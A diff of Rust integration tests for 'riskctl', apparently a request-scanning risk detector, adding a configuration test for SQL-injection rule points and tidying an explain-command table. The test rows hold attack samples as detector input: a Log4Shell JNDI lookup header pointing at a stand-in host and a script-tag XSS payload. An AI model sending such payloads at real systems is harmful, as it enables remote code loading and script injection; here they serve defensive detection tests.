@@ -19,7 +19,8 @@ fn riskctl(arguments: &[&str], variables: &[(&str, &str)], input: &str) -> (i32,
         .stderr(Stdio::piped())
         .spawn()
         .unwrap();
-    child.stdin.take().unwrap().write_all(input.as_bytes()).unwrap();
+    // A program that asks for no input may be gone by now.
+    let _ = child.stdin.take().unwrap().write_all(input.as_bytes());
     let output = child.wait_with_output().unwrap();
     let text = |bytes| String::from_utf8(bytes).unwrap();
     (output.status.code().unwrap(), text(output.stdout), text(output.stderr))
@@ -165,6 +166,9 @@ fn rates_are_a_table_and_a_configuration_counts() {
     std::fs::write(&file, "risk: {threshold: 7}").unwrap();
     let (_, out, err) = riskctl(&["scan", "--config", file.to_str().unwrap(), "-"], &[], RECORDED);
     assert!(out.starts_with("{\"id\":\"web-1\",\"points\":7,"), "{out}{err}");
+    std::fs::write(&file, "detect: {rules: {sqli: {points: 2}}}").unwrap();
+    let (_, out, err) = riskctl(&["scan", "--config", file.to_str().unwrap(), "-"], &[], RECORDED);
+    assert!(out.starts_with("{\"id\":\"web-1\",\"points\":2,"), "{out}{err}");
     std::fs::write(&file, "risk: {threshold: none}").unwrap();
     let (code, _, err) = riskctl(&["scan", "--config", file.to_str().unwrap(), "-"], &[], "");
     assert_eq!(code, 2);
@@ -205,7 +209,10 @@ fn a_request_is_explained_step_by_step() {
             "sql        a condition that is always true or false, joined by OR or AND → sqli.tautology\n",
         ),
         (&["-H", "X-Log: ${jndi:ldap://x.example/a}", "/"], "\n    8  log4shell.lookup  critical  header:x-log  "),
-        (&["-X", "PUT", "-H", "content-type: application/json", "-d", "@-", "/"], "json:a  <script>alert(1)</script>\n"),
+        (
+            &["-X", "PUT", "-H", "content-type: application/json", "-d", "@-", "/"],
+            "json:a  <script>alert(1)</script>\n",
+        ),
     ];
     for (arguments, expected) in rows {
         let arguments: Vec<_> = ["explain"].iter().chain(arguments).copied().collect();
